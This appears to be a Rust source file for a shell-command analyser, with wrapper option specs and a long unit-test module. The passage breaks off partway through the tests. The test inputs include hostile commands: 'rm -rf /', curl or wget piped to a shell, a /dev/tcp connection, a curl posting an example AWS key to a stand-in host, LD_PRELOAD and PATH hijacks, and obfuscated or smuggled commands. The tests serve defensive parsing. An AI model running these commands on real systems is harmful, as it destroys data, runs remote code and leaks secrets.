const TASKSET: Spec = Spec {
    flags: "acphV",
    long_flags: "all-tasks cpu-list pid help version",
    operands: 1,
    no_cmd: "-p --pid",
    ..NONE
};
const CHRT: Spec = Spec {
    flags: "abdefimoprRvhV",
    values: "TPD",
    long_flags: concat!(
        "all-tasks batch deadline fifo idle other rr reset-on-fork verbose max pid help ",
        "version",
    ),
    long_values: "sched-runtime sched-period sched-deadline",
    operands: 1,
    no_cmd: "-p --pid -m --max",
    ..NONE
};
const UNSHARE: Spec = Spec {
    flags: "fhVmuinpCTUrc",
    values: "RwSG",
    long_flags: concat!(
        "mount uts ipc net pid user cgroup time fork kill-child mount-proc map-root-user ",
        "map-current-user map-auto keep-caps help version",
    ),
    long_values: concat!(
        "map-user map-group map-users map-groups propagation setgroups setuid setgid ",
        "root wd monotonic boottime load-interp",
    ),
    ..NONE
};
const STRACE: Spec = Spec {
    flags: "cCdDfFhiknqrtTvVwxyYzZ",
    values: "abeEIoOpPsSuUX",
    ..NONE
};
const LTRACE: Spec = Spec {
    flags: "bcCfhiLrsStTV",
    values: "aAeFlnopuwxD",
    ..NONE
};
const WATCH: Spec = Spec {
    flags: "bcCegprtwxhv",
    values: "nq",
    attached: "d",
    long_flags: concat!(
        "beep color no-color differences errexit chgexit precise no-rerun no-title ",
        "no-wrap exec help version",
    ),
    long_values: "interval equexit",
    no_cmd: "-h --help -v --version",
    ..NONE
};
const SCRIPT: Spec = Spec {
    flags: "aefqhV",
    values: "cEIOBmT",
    attached: "t",
    long_flags: "append return flush force quiet timing help version",
    long_values: "command echo log-in log-out log-io log-timing logging-format output-limit",
    permute: true,
    script: "-c --command",
    ..NONE
};

/// How the wrapper named `base` reads its options, if it is one.
fn spec(base: &str) -> Option<&'static Spec> {
    Some(match base {
        "sudo" => &SUDO,
        "doas" => &DOAS,
        "pkexec" => &PKEXEC,
        "env" => &ENV,
        "nice" => &NICE,
        "nohup" => &NOHUP,
        "ionice" => &IONICE,
        "timeout" => &TIMEOUT,
        "stdbuf" => &STDBUF,
        "command" => &COMMAND,
        "exec" => &EXEC,
        "time" => &TIME,
        "chroot" => &CHROOT,
        "setsid" => &SETSID,
        "unbuffer" => &UNBUFFER,
        "flock" => &FLOCK,
        "taskset" => &TASKSET,
        "chrt" => &CHRT,
        "unshare" => &UNSHARE,
        "strace" => &STRACE,
        "ltrace" => &LTRACE,
        "xargs" => &XARGS,
        "watch" => &WATCH,
        "su" | "runuser" => &SU,
        "script" => &SCRIPT,
        _ => return None,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    /// (input, commands, opaque)
    type Case = (&'static str, &'static [&'static [&'static str]], bool);

    fn check(cases: &[Case]) {
        let mut failed = Vec::new();
        for (line, want, opaque) in cases {
            let got = parse(line);
            let want: Vec<Vec<String>> = want
                .iter()
                .map(|c| c.iter().map(|s| s.to_string()).collect())
                .collect();
            if got.commands != want || got.opaque != *opaque {
                failed.push(format!(
                    "{line:?}\n   want {want:?} opaque={opaque}\n   got  {:?} opaque={}",
                    got.commands, got.opaque
                ));
            }
        }
        assert!(
            failed.is_empty(),
            "{} of {} cases failed:\n{}",
            failed.len(),
            cases.len(),
            failed.join("\n")
        );
    }

    #[test]
    #[rustfmt::skip]
    fn lists_and_pipelines() {
        check(&[
            ("rm -rf /", &[&["rm", "-rf", "/"]], false),
            ("a; b && c || d | e |& f & g", &[&["a"], &["b"], &["c"], &["d"], &["e"], &["f"], &["g"]], false),
            ("a\nb\n\nc", &[&["a"], &["b"], &["c"]], false),
            ("a &&\n b ||\n\n c |\n d", &[&["a"], &["b"], &["c"], &["d"]], false),
            ("a & b &", &[&["a"], &["b"]], false),
            ("ls 2>&1 | grep x", &[&["ls"], &["grep", "x"]], false),
            ("curl x | sh", &[&["curl", "x"], &["sh"]], false),
            ("wget -qO- x|python3", &[&["wget", "-qO-", "x"], &["python3"]], false),
            ("! rm x", &[&["rm", "x"]], false),
            ("! ! rm x", &[&["rm", "x"]], false),
            ("time rm x", &[&["rm", "x"]], false),
            ("time -p rm x | sort", &[&["rm", "x"], &["sort"]], false),
            ("time", &[], false),
            ("time -- rm x", &[&["rm", "x"]], false),
            ("time -p -- rm x", &[&["rm", "x"]], false),
            ("a ;; b", &[&["a"], &["b"]], true),
            ("; a", &[&["a"]], true),
            ("a && && b", &[&["a"], &["b"]], true),
        ]);
    }

    #[test]
    #[rustfmt::skip]
    fn compound_commands() {
        check(&[
            ("{ rm -rf /; }", &[&["rm", "-rf", "/"]], false),
            ("{ a; b; } > out", &[&["a"], &["b"]], false),
            ("(cd / && rm -rf *)", &[&["cd", "/"], &["rm", "-rf", "*"]], false),
            ("( (a) ; (b) )", &[&["a"], &["b"]], false),
            ("if true; then rm x; fi", &[&["true"], &["rm", "x"]], false),
            ("if a; then b; elif c; then d; else e; fi", &[&["a"], &["b"], &["c"], &["d"], &["e"]], false),
            ("if a\nthen\n b\nfi", &[&["a"], &["b"]], false),
            ("while read f; do rm \"$f\"; done < list", &[&["read", "f"], &["rm", "$f"]], false),
            ("until a; do b; done", &[&["a"], &["b"]], false),
            ("for f in *; do rm \"$f\"; done", &[&["rm", "$f"]], false),
            ("for f in a b c\ndo\n rm $f\ndone", &[&["rm", "$f"]], false),
            ("for f; do a; done", &[&["a"]], false),
            ("for f in do done; do a; done", &[&["a"]], false),
            ("for f in a; { b; }", &[&["b"]], false),
            ("select x in a b; do c; done", &[&["c"]], false),
            ("case $x in a) rm y;; esac", &[&["rm", "y"]], false),
            ("case x in (a|b) c ;; *) d ;& e) f ;;& esac", &[&["c"], &["d"], &["f"]], false),
            ("case x in\n a)\n  b\n  ;;\n c) d\nesac", &[&["b"], &["d"]], false),
            ("case x in esac", &[], false),
            ("f(){ rm x; }; f", &[&["rm", "x"], &["f"]], false),
            ("f () ( rm x )", &[&["rm", "x"]], false),
            ("function g { rm y; }", &[&["rm", "y"]], false),
            ("function g() { rm y; } > log", &[&["rm", "y"]], false),
            ("ls() { rm -rf /; }; ls", &[&["rm", "-rf", "/"], &["ls"]], false),
            ("[[ -f x ]] && rm x", &[&["rm", "x"]], false),
            ("[[ $x == y && ( -n $z || a < b ) ]] || c", &[&["c"]], false),
            ("coproc a b", &[&["a", "b"]], false),
            ("coproc NAME { a; }", &[&["a"]], false),
            ("coproc { a; }", &[&["a"]], false),
            ("echo fi then done }", &[&["echo", "fi", "then", "done", "}"]], false),
            ("if a; then b", &[&["a"], &["b"]], true),
            ("fi", &[], true),
            ("a; fi; b", &[&["a"], &["b"]], true),
            ("{ a", &[&["a"]], true),
            ("{ a }", &[&["a", "}"]], true),
            ("(a", &[&["a"]], true),
            ("a)", &[&["a"]], true),
            ("done", &[], true),
            ("case x in a) b", &[&["b"]], true),
            ("[[ a", &[], true),
            ("[[ x ; rm y ; ]]", &[&["rm", "y"], &["]]"]], true),
            ("[[ -n x &&\n -n y ]] && a", &[&["a"]], false),
            ("function { a; }", &[], true),
        ]);
    }

    #[test]
    #[rustfmt::skip]
    fn quoting() {
        check(&[
            ("r''m -rf /", &[&["rm", "-rf", "/"]], false),
            ("\"r\"m x", &[&["rm", "x"]], false),
            ("\\rm x", &[&["rm", "x"]], false),
            ("r\\m -rf /", &[&["rm", "-rf", "/"]], false),
            ("\"rm\" -rf /", &[&["rm", "-rf", "/"]], false),
            ("'r'm -rf /", &[&["rm", "-rf", "/"]], false),
            ("$'\\162m' -rf ~", &[&["rm", "-rf", "~"]], false),
            ("$'\\x72m' x", &[&["rm", "x"]], false),
            ("$'\\u0072\\U0000006d' x", &[&["rm", "x"]], false),
            ("echo $'a\\tb\\nc\\'d\\\\e\\\"f\\?g'", &[&["echo", "a\tb\nc'd\\e\"f?g"]], false),
            ("echo $'\\a\\b\\e\\E\\f\\r\\v'", &[&["echo", "\x07\x08\x1b\x1b\x0c\r\x0b"]], false),
            ("echo $'\\cA\\q'", &[&["echo", "\x01\\q"]], false),
            ("echo $'\\u00e9' $'\\xc3\\xa9' $'caf\\303\\251'", &[&["echo", "é", "é", "café"]], false),
            ("echo $'\\xff'", &[&["echo", "\u{fffd}"]], true),
            ("echo $'a\\0b'", &[&["echo", "ab"]], true),
            ("echo $'\\x00'", &[&["echo", ""]], true),
            ("echo $'\\ud800'", &[&["echo", ""]], true),
            ("echo $'\\U00110000'", &[&["echo", ""]], true),
            ("echo $'\\x'", &[&["echo", ""]], true),
            ("echo $'\\777'", &[&["echo", ""]], true),
            ("echo $\"a $b\"", &[&["echo", "a $b"]], false),
            ("$\"ls\" x", &[&["ls", "x"]], true),
            ("echo \"a\\\"b\\\\c\\$d\\`e\\f\"", &[&["echo", "a\"b\\c$d`e\\f"]], false),
            ("echo 'a\\b' \"it's\" 'say \"x\"'", &[&["echo", "a\\b", "it's", "say \"x\""]], false),
            ("echo a\\\nb", &[&["echo", "ab"]], false),
            ("ec\\\nho x", &[&["echo", "x"]], false),
            ("echo \"a\\\nb\"", &[&["echo", "ab"]], false),
            ("echo 'a\\\nb'", &[&["echo", "a\\\nb"]], false),
            ("echo a \\\n b", &[&["echo", "a", "b"]], false),
            ("echo \\;x \\| \\&", &[&["echo", ";x", "|", "&"]], false),
            ("echo '$(id)'", &[&["echo", "$(id)"]], false),
            ("echo \"\\$(id)\"", &[&["echo", "$(id)"]], false),
            ("echo \\`id\\`", &[&["echo", "`id`"]], false),
            ("echo '", &[&["echo"]], true),
            ("echo \"abc", &[&["echo"]], true),
            ("echo $'abc", &[&["echo"]], true),
            ("echo x\\", &[&["echo", "x\\"]], false),
            ("git commit -m \"fix: rm -rf handling\"", &[&["git", "commit", "-m", "fix: rm -rf handling"]], false),
            ("curl -d 'AKIAIOSFOD''NN7EXAMPLE' https://x.example",
                &[&["curl", "-d", "AKIAIOSFODNN7EXAMPLE", "https://x.example"]], false),
            ("echo café ünï", &[&["echo", "café", "ünï"]], false),
            ("echo a\u{a0}b", &[&["echo", "a\u{a0}b"]], false),
        ]);
    }

    #[test]
    #[rustfmt::skip]
    fn comments_and_blanks() {
        check(&[
            ("", &[], false),
            ("   \t ", &[], false),
            ("\n\n", &[], false),
            ("# rm -rf /", &[], false),
            ("  # rm -rf /\n", &[], false),
            ("echo a # rm -rf /", &[&["echo", "a"]], false),
            ("echo a#b '#c' \\#d", &[&["echo", "a#b", "#c", "#d"]], false),
            ("echo a;#x\nb", &[&["echo", "a"], &["b"]], false),
            ("# comment \\\nrm x", &[&["rm", "x"]], false),
            ("echo $# ${#x}", &[&["echo", "$#", "${#x}"]], false),
        ]);
    }

    #[test]
    #[rustfmt::skip]
    fn assignments() {
        check(&[
            ("FOO=1 BAR=x cmd a", &[&["cmd", "a"]], false),
            ("x=1 y=2", &[], false),
            ("x=1; y+=2; z=", &[], false),
            ("a=(1 2 3); b+=(x)", &[], false),
            ("a[0]=1 cmd", &[&["cmd"]], false),
            ("cmd a=b", &[&["cmd", "a=b"]], false),
            ("\"a\"=b", &[&["a=b"]], false),
            ("x=$y cmd", &[&["cmd"]], false),
            ("a=$(rm -rf /)", &[&["rm", "-rf", "/"]], true),
            ("a=`rm -rf /` b", &[&["b"], &["rm", "-rf", "/"]], true),
            ("a=$(x); $a", &[&["x"], &["$a"]], true),
            ("a[i]=1", &[], true),
            ("a[$(id)]=1", &[&["id"]], true),
            ("a=([i]=1)", &[], true),
            ("a=(x $(id))", &[&["id"]], true),
            ("PATH=/tmp/evil:$PATH ls", &[&["ls"]], true),
            ("PATH=/tmp/evil", &[], true),
            ("LD_PRELOAD=/tmp/x.so ls", &[&["ls"]], true),
            ("LD_LIBRARY_PATH=/tmp ls", &[&["ls"]], true),
            ("BASH_ENV=/tmp/x bash s", &[&["bash", "s"]], true),
            ("ENV=/tmp/x sh", &[&["sh"]], true),
            ("IFS=/ x", &[&["x"]], true),
            ("PROMPT_COMMAND='rm x'", &[], true),
            ("'BASH_FUNC_ls%%'='() { :; }' ls", &[&["BASH_FUNC_ls%%=() { :; }", "ls"]], false),
            ("env 'BASH_FUNC_ls%%=() { :; }' ls", &[&["env", "BASH_FUNC_ls%%=() { :; }", "ls"], &["ls"]], true),
            ("sudo 'BASH_FUNC_x%%=() { :; }' x", &[&["sudo", "BASH_FUNC_x%%=() { :; }", "x"], &["x"]], true),
            ("GIT_SSH_COMMAND='rm -rf /' git fetch", &[&["git", "fetch"]], true),
            ("BASH_CMDS=x", &[], true),
        ]);
    }

    #[test]
    #[rustfmt::skip]
    fn redirections_and_heredocs() {
        check(&[
            ("echo hi > /etc/passwd", &[&["echo", "hi"]], false),
            ("a >x >>y <z 2>&1 &>w &>>v 3<>u 4>|t <&0 >&- {fd}>s", &[&["a"]], false),
            ("> x", &[], false),
            ("< x a", &[&["a"]], false),
            ("a 2> err b", &[&["a", "b"]], false),
            ("a 2 > x", &[&["a", "2"]], false),
            ("a <<< 'rm -rf /'", &[&["a"]], false),
            ("exec 3<>/dev/tcp/1.2.3.4/80", &[&["exec"]], false),
            ("exec >log 2>&1", &[&["exec"]], false),
            ("a > $(rm x)", &[&["a"], &["rm", "x"]], true),
            ("a < <(curl x)", &[&["a"], &["curl", "x"]], true),
            ("a > >(rm x)", &[&["a"], &["rm", "x"]], true),
            ("diff <(ls a) <(ls b)", &[&["diff", "<(ls a)", "<(ls b)"], &["ls", "a"], &["ls", "b"]], true),
            ("a >", &[&["a"]], true),
            ("cat <<EOF\nrm -rf /\nEOF", &[&["cat"]], false),
            ("cat <<EOF\nrm -rf /\nEOF\nls", &[&["cat"], &["ls"]], false),
            ("cat <<'EOF'\n$(rm -rf /)\nEOF", &[&["cat"]], false),
            ("cat <<\"EOF\"\n`id`\nEOF", &[&["cat"]], false),
            ("cat <<\\EOF\n$(id)\nEOF", &[&["cat"]], false),
            ("cat <<E\"O\"F\n$(id)\nEOF", &[&["cat"]], false),
            ("cat <<EOF\n$(rm -rf /)\nEOF", &[&["cat"], &["rm", "-rf", "/"]], true),
            ("cat <<EOF\n`id`\nEOF", &[&["cat"], &["id"]], true),
            ("cat <<EOF\n\\$(id) $HOME\nEOF", &[&["cat"]], false),
            ("cat <<EOF\n${x[$(id)]}\nEOF", &[&["cat"], &["id"]], true),
            ("cat <<-EOF\n\trm x\n\tEOF\nls", &[&["cat"], &["ls"]], false),
            ("cat <<EOF\n\tEOF\nEOF\nls", &[&["cat"], &["ls"]], false),
            ("cat <<EOF; rm x\nbody\nEOF", &[&["cat"], &["rm", "x"]], false),
            ("cat <<A <<B\na\nA\nb\nB\nls", &[&["cat"], &["ls"]], false),
            ("cat <<EOF | sh\nrm -rf /\nEOF", &[&["cat"], &["sh"]], false),
            // An unquoted delimiter joins continued lines: `EO\` + `F` is the delimiter.
            ("cat <<EOF\nx\nEO\\\nF\nrm -rf /\nEOF", &[&["cat"], &["rm", "-rf", "/"], &["EOF"]], false),
            ("cat <<EOF\nx\\\nEOF\nrm -rf /\nEOF", &[&["cat"]], false),
            ("cat <<'EOF'\nx\\\nEOF\nrm -rf /", &[&["cat"], &["rm", "-rf", "/"]], false),
            ("cat <<EOF\nrm -rf /", &[&["cat"]], true),
            ("cat <<EOF", &[&["cat"]], true),
            ("bash <<EOF\nrm -rf /\nEOF", &[&["bash"]], true),
            ("sh <<'EOF'\nrm -rf /\nEOF", &[&["sh"]], true),
            ("python3 - <<EOF\nimport os\nEOF", &[&["python3", "-"]], true),
            ("sudo bash <<EOF\nx\nEOF", &[&["sudo", "bash"], &["bash"]], true),
            ("bash <<< 'rm -rf /'", &[&["bash"]], true),
            ("{ bash; } <<EOF\nx\nEOF", &[&["bash"]], true),
            ("while read l; do a; done <<EOF\nx\nEOF", &[&["read", "l"], &["a"]], false),
            ("$(echo x) <<EOF\nx\nEOF", &[&["$(echo x)"], &["echo", "x"]], true),
        ]);
    }

    #[test]
    #[rustfmt::skip]
    fn substitutions() {
        check(&[
            ("echo $(rm -rf /)", &[&["echo", "$(rm -rf /)"], &["rm", "-rf", "/"]], true),
            ("echo \"$(id)\"", &[&["echo", "$(id)"], &["id"]], true),
            ("echo `id`", &[&["echo", "`id`"], &["id"]], true),
            ("echo \"`id`\"", &[&["echo", "`id`"], &["id"]], true),
            ("echo `echo \\`id\\``", &[&["echo", "`echo \\`id\\``"], &["echo", "`id`"], &["id"]], true),
            ("echo $(a $(b) `c`)", &[&["echo", "$(a $(b) `c`)"], &["a", "$(b)", "`c`"], &["b"], &["c"]], true),
            ("echo $(echo ')')", &[&["echo", "$(echo ')')"], &["echo", ")"]], true),
            ("echo $(case x in x) a;; esac)", &[&["echo", "$(case x in x) a;; esac)"], &["a"]], true),
            ("echo $(# comment )\nrm x)", &[&["echo", "$(# comment )\nrm x)"], &["rm", "x"]], true),
            ("echo $(cat <<EOF\n)\nEOF\n)", &[&["echo", "$(cat <<EOF\n)\nEOF\n)"], &["cat"]], true),
            ("x=\"$(a)\"\"$(b)\"", &[&["a"], &["b"]], true),
            ("$(id)", &[&["$(id)"], &["id"]], true),
            ("echo $(a", &[&["echo"], &["a"]], true),
            ("echo `a", &[&["echo"]], true),
            ("echo $(( 1 + 2 ))", &[&["echo", "$(( 1 + 2 ))"]], true),
            ("echo $(( a[$(id)] ))", &[&["echo", "$(( a[$(id)] ))"], &["id"]], true),
            ("echo $[ 1 + 2 ]", &[&["echo", "$[ 1 + 2 ]"]], true),
            ("(( x[$(id)] ))", &[&["id"]], true),
            ("(( x++ )) && a", &[&["a"]], true),
            ("for (( i=0; i<3; i++ )); do a; done", &[&["a"]], true),
            ("echo $((echo hi) )", &[&["echo", "$((echo hi) )"], &["echo", "hi"]], true),
            ("((echo hi) )", &[&["echo", "hi"]], true),
            ("echo ${x:-$(rm -rf /)}", &[&["echo", "${x:-$(rm -rf /)}"], &["rm", "-rf", "/"]], true),
        ]);
    }

    #[test]
    #[rustfmt::skip]
    fn parameters() {
        check(&[
            ("rm -rf $HOME", &[&["rm", "-rf", "$HOME"]], false),
            ("echo $1 $@ $* $# $? $- $$ $! $0 $_x ${10}", &[&["echo", "$1", "$@", "$*", "$#", "$?", "$-", "$$", "$!", "$0", "$_x", "${10}"]], false),
            ("echo ${x} ${x:-a} ${x-a} ${x:=a} ${x:?a} ${x:+a} ${x#a} ${x##a} ${x%a} ${x%%a}",
                &[&["echo", "${x}", "${x:-a}", "${x-a}", "${x:=a}", "${x:?a}", "${x:+a}", "${x#a}", "${x##a}", "${x%a}", "${x%%a}"]], false),
            ("echo ${x/a/b} ${x//a/b} ${x/#a/b} ${x^} ${x^^} ${x,,} ${#x} ${arr[@]} ${arr[*]} ${arr[0]} ${#arr[@]} ${!}",
                &[&["echo", "${x/a/b}", "${x//a/b}", "${x/#a/b}", "${x^}", "${x^^}", "${x,,}", "${#x}", "${arr[@]}", "${arr[*]}", "${arr[0]}", "${#arr[@]}", "${!}"]], false),
            ("echo \"${x:-'}'}\" ${x:-{a}}", &[&["echo", "${x:-'}'}", "${x:-{a}}"]], false),
            // Braces inside are not counted, as in bash: the expansion ends at the first `}`.
            ("echo ${x:-{a} ; rm x }", &[&["echo", "${x:-{a}"], &["rm", "x", "}"]], false),
            ("echo \"${x:-'$(id)'}\"", &[&["echo", "${x:-'$(id)'}"]], true),
            ("echo ${x:1}", &[&["echo", "${x:1}"]], true),
            ("echo ${x:1:2}", &[&["echo", "${x:1:2}"]], true),
            ("echo ${x[i]}", &[&["echo", "${x[i]}"]], true),
            ("echo ${x[$(id)]}", &[&["echo", "${x[$(id)]}"], &["id"]], true),
            ("echo ${!x}", &[&["echo", "${!x}"]], true),
            ("echo ${!x*}", &[&["echo", "${!x*}"]], true),
            ("echo ${x@P}", &[&["echo", "${x@P}"]], true),
            ("echo ${x y}", &[&["echo", "${x y}"]], true),
            ("echo ${}", &[&["echo", "${}"]], true),
            ("echo ${x", &[&["echo"]], true),
            ("echo $ a$ \"$\"", &[&["echo", "$", "a$", "$"]], false),
            ("$CMD -rf /", &[&["$CMD", "-rf", "/"]], true),
            ("\"$CMD\" x", &[&["$CMD", "x"]], true),
            ("${X:-rm} x", &[&["${X:-rm}", "x"]], true),
            ("rm${IFS}-rf${IFS}/", &[&["rm${IFS}-rf${IFS}/"]], true),
            ("r$@m x", &[&["r$@m", "x"]], true),
        ]);
    }

    #[test]
    #[rustfmt::skip]
    fn command_names() {
        check(&[
            ("/bin/rm -rf /", &[&["/bin/rm", "-rf", "/"]], false),
            ("./x a", &[&["./x", "a"]], false),
            ("~/bin/x", &[&["~/bin/x"]], false),
            ("*/rm -rf /", &[&["*/rm", "-rf", "/"]], true),
            ("/???/r? -rf /", &[&["/???/r?", "-rf", "/"]], true),
            ("[r]m x", &[&["[r]m", "x"]], true),
            ("{rm,-rf,/}", &[&["{rm,-rf,/}"]], true),
            ("r{m,} x", &[&["r{m,}", "x"]], true),
            ("{a..c}", &[&["{a..c}"]], true),
            ("'*' x", &[&["*", "x"]], false),
            ("[ -f x ] && rm x", &[&["[", "-f", "x", "]"], &["rm", "x"]], false),
            ("test -f x", &[&["test", "-f", "x"]], false),
            ("echo {} {x} *.txt", &[&["echo", "{}", "{x}", "*.txt"]], false),
            ("rm @(a|b)", &[&["rm", "@"], &["b"]], true),
        ]);
    }

    #[test]
    #[rustfmt::skip]
    fn builtins_that_run_strings() {
        check(&[
            ("eval \"rm -rf /\"", &[&["eval", "rm -rf /"], &["rm", "-rf", "/"]], true),
            ("eval rm -rf /", &[&["eval", "rm", "-rf", "/"], &["rm", "-rf", "/"]], true),
            ("eval \"$X\"", &[&["eval", "$X"]], true),
            (". ./evil.sh", &[&[".", "./evil.sh"]], true),
            ("source x", &[&["source", "x"]], true),
            ("alias ls='rm -rf /'", &[&["alias", "ls=rm -rf /"], &["rm", "-rf", "/"]], true),
            ("trap 'rm -rf /' EXIT", &[&["trap", "rm -rf /", "EXIT"], &["rm", "-rf", "/"]], true),
            ("enable -f x.so y", &[&["enable", "-f", "x.so", "y"]], true),
            ("builtin eval x", &[&["builtin", "eval", "x"], &["eval", "x"], &["x"]], true),
            ("command eval x", &[&["command", "eval", "x"], &["eval", "x"], &["x"]], true),
            ("hash -p /tmp/evil ls", &[&["hash", "-p", "/tmp/evil", "ls"]], true),
            ("hash -r", &[&["hash", "-r"]], false),
            ("let x=1", &[&["let", "x=1"]], true),
            ("declare -i x", &[&["declare", "-i", "x"]], true),
            ("typeset -n r=a", &[&["typeset", "-n", "r=a"]], true),
            ("declare 'a[$(id)]=1'", &[&["declare", "a[$(id)]=1"]], true),
            ("declare -a x='(1)'", &[&["declare", "-a", "x=(1)"]], true),
            ("declare \"$p\"", &[&["declare", "$p"]], true),
            ("export PATH=/tmp:$PATH", &[&["export", "PATH=/tmp:$PATH"]], true),
            ("export FOO=1 BAR", &[&["export", "FOO=1", "BAR"]], false),
            ("local x=1", &[&["local", "x=1"]], false),
            ("printf -v 'a[$i]' x", &[&["printf", "-v", "a[$i]", "x"]], true),
            ("printf -v x %s y", &[&["printf", "-v", "x", "%s", "y"]], false),
            ("printf '%s[x]' \"$y\"", &[&["printf", "%s[x]", "$y"]], false),
            ("read -r 'a[$(id)]'", &[&["read", "-r", "a[$(id)]"]], true),
            ("read -r line", &[&["read", "-r", "line"]], false),
            ("unset \"$p\"", &[&["unset", "$p"]], true),
            ("mapfile -C cb x", &[&["mapfile", "-C", "cb", "x"]], true),
            ("[[ $x -eq 1 ]] && rm y", &[&["rm", "y"]], true),
            ("[[ -v x ]]", &[], true),
            ("[ -v \"$p\" ]", &[&["[", "-v", "$p", "]"]], true),
            ("test 1 -eq 2", &[&["test", "1", "-eq", "2"]], false),
            ("compgen -W '$(id)' x", &[&["compgen", "-W", "$(id)", "x"]], true),
            ("fc -s", &[&["fc", "-s"]], true),
        ]);
    }

    #[test]
    #[rustfmt::skip]
    fn shells() {
        check(&[
            ("bash -c 'rm -rf /'", &[&["bash", "-c", "rm -rf /"], &["rm", "-rf", "/"]], false),
            ("sh -c \"rm x; ls\"", &[&["sh", "-c", "rm x; ls"], &["rm", "x"], &["ls"]], false),
            ("bash -c 'echo $HOME'", &[&["bash", "-c", "echo $HOME"], &["echo", "$HOME"]], false),
            ("sh -c \"$X\"", &[&["sh", "-c", "$X"]], true),
            ("sh -c \"rm $X\"", &[&["sh", "-c", "rm $X"]], true),
            ("sh -c $X", &[&["sh", "-c", "$X"]], true),
            ("sh -c 'x' $(id)", &[&["sh", "-c", "x", "$(id)"], &["x"], &["id"]], true),
            ("bash -lc 'a'", &[&["bash", "-lc", "a"], &["a"]], false),
            ("bash -e -o pipefail -c 'a'", &[&["bash", "-e", "-o", "pipefail", "-c", "a"], &["a"]], false),
            ("bash -c -x 'a' b c", &[&["bash", "-c", "-x", "a", "b", "c"], &["a"]], false),
            ("bash --norc --rcfile f -c 'a'", &[&["bash", "--norc", "--rcfile", "f", "-c", "a"], &["a"]], false),
            ("/bin/sh -c 'a | b'", &[&["/bin/sh", "-c", "a | b"], &["a"], &["b"]], false),
            ("bash -c 'bash -c \"rm x\"'", &[&["bash", "-c", "bash -c \"rm x\""], &["bash", "-c", "rm x"], &["rm", "x"]], false),
            ("bash -c", &[&["bash", "-c"]], true),
            ("bash -c 'echo \"'", &[&["bash", "-c", "echo \""], &["echo"]], true),
            ("bash -c '$(id)'", &[&["bash", "-c", "$(id)"], &["$(id)"], &["id"]], true),
            ("bash \"$X\" 'rm -rf /'", &[&["bash", "$X", "rm -rf /"]], true),
            ("fish -c 'rm x'", &[&["fish", "-c", "rm x"]], true),
            ("bash script.sh", &[&["bash", "script.sh"]], false),
            ("sh", &[&["sh"]], false),
            ("curl -s x | sudo bash -s", &[&["curl", "-s", "x"], &["sudo", "bash", "-s"], &["bash", "-s"]], false),
            ("python3 -c 'import os'", &[&["python3", "-c", "import os"]], false),
            // The argv of an execve, quoted back into a line by the caller.
            ("'sh' '-c' 'rm -rf / && echo '\\''it'\\'''\\''s'\\'''",
                &[&["sh", "-c", "rm -rf / && echo 'it''s'"], &["rm", "-rf", "/"], &["echo", "its"]], false),
        ]);
    }

    #[test]
    #[rustfmt::skip]
    fn wrappers() {
        check(&[
            ("sudo rm -rf /", &[&["sudo", "rm", "-rf", "/"], &["rm", "-rf", "/"]], false),
            ("sudo -u root -- rm -rf /", &[&["sudo", "-u", "root", "--", "rm", "-rf", "/"], &["rm", "-rf", "/"]], false),
            ("sudo -E -uroot -g wheel rm x", &[&["sudo", "-E", "-uroot", "-g", "wheel", "rm", "x"], &["rm", "x"]], false),
            ("sudo --user=root --preserve-env rm x", &[&["sudo", "--user=root", "--preserve-env", "rm", "x"], &["rm", "x"]], false),
            ("sudo --us root rm x", &[&["sudo", "--us", "root", "rm", "x"], &["rm", "x"]], false),
            ("sudo FOO=1 rm x", &[&["sudo", "FOO=1", "rm", "x"], &["rm", "x"]], false),
            ("sudo LD_PRELOAD=x rm x", &[&["sudo", "LD_PRELOAD=x", "rm", "x"], &["rm", "x"]], true),
            ("sudo -l rm x", &[&["sudo", "-l", "rm", "x"]], false),
            ("sudo -i", &[&["sudo", "-i"]], false),
            ("sudo -s rm x", &[&["sudo", "-s", "rm", "x"], &["rm", "x"]], false),
            ("sudo -s 'echo $X'", &[&["sudo", "-s", "echo $X"]], true),
            ("sudo -Q rm x", &[&["sudo", "-Q", "rm", "x"]], true),
            ("sudo --bogus rm x", &[&["sudo", "--bogus", "rm", "x"]], true),
            ("sudo $X", &[&["sudo", "$X"]], true),
            ("sudo -u $U rm x", &[&["sudo", "-u", "$U", "rm", "x"]], true),
            ("sudo -u \"$U\" rm x", &[&["sudo", "-u", "$U", "rm", "x"], &["rm", "x"]], false),
            ("sudo env FOO=1 rm -rf /", &[&["sudo", "env", "FOO=1", "rm", "-rf", "/"], &["env", "FOO=1", "rm", "-rf", "/"], &["rm", "-rf", "/"]], false),
            ("doas -u root rm x", &[&["doas", "-u", "root", "rm", "x"], &["rm", "x"]], false),
            ("pkexec --user root rm x", &[&["pkexec", "--user", "root", "rm", "x"], &["rm", "x"]], false),
            ("env -i PATH=/bin rm x", &[&["env", "-i", "PATH=/bin", "rm", "x"], &["rm", "x"]], true),
            ("env -u HOME -C /tmp A=1 rm x", &[&["env", "-u", "HOME", "-C", "/tmp", "A=1", "rm", "x"], &["rm", "x"]], false),
            ("env - rm x", &[&["env", "-", "rm", "x"], &["rm", "x"]], false),
            ("env", &[&["env"]], false),
            ("env -S 'rm x'", &[&["env", "-S", "rm x"]], true),
            ("nice -n 5 rm x", &[&["nice", "-n", "5", "rm", "x"], &["rm", "x"]], false),
            ("nice -5 rm x", &[&["nice", "-5", "rm", "x"], &["rm", "x"]], false),
            ("nohup rm x &", &[&["nohup", "rm", "x"], &["rm", "x"]], false),
            ("ionice -c 3 rm x", &[&["ionice", "-c", "3", "rm", "x"], &["rm", "x"]], false),
            ("ionice -p 12", &[&["ionice", "-p", "12"]], false),
            ("timeout -s KILL 5 rm x", &[&["timeout", "-s", "KILL", "5", "rm", "x"], &["rm", "x"]], false),
            ("timeout --kill-after=1 5s rm x", &[&["timeout", "--kill-after=1", "5s", "rm", "x"], &["rm", "x"]], false),
            ("timeout \"$T\" rm x", &[&["timeout", "$T", "rm", "x"]], true),
            ("stdbuf -oL rm x", &[&["stdbuf", "-oL", "rm", "x"], &["rm", "x"]], false),
            ("command rm -rf /", &[&["command", "rm", "-rf", "/"], &["rm", "-rf", "/"]], false),
            ("command -p rm x", &[&["command", "-p", "rm", "x"], &["rm", "x"]], false),
            ("command -v rm", &[&["command", "-v", "rm"]], false),
            ("builtin cd /", &[&["builtin", "cd", "/"], &["cd", "/"]], false),
            ("exec rm x", &[&["exec", "rm", "x"], &["rm", "x"]], false),
            ("exec -a name rm x", &[&["exec", "-a", "name", "rm", "x"], &["rm", "x"]], false),
            ("exec $X", &[&["exec", "$X"]], true),
            ("'time' -v rm x", &[&["time", "-v", "rm", "x"], &["rm", "x"]], false),
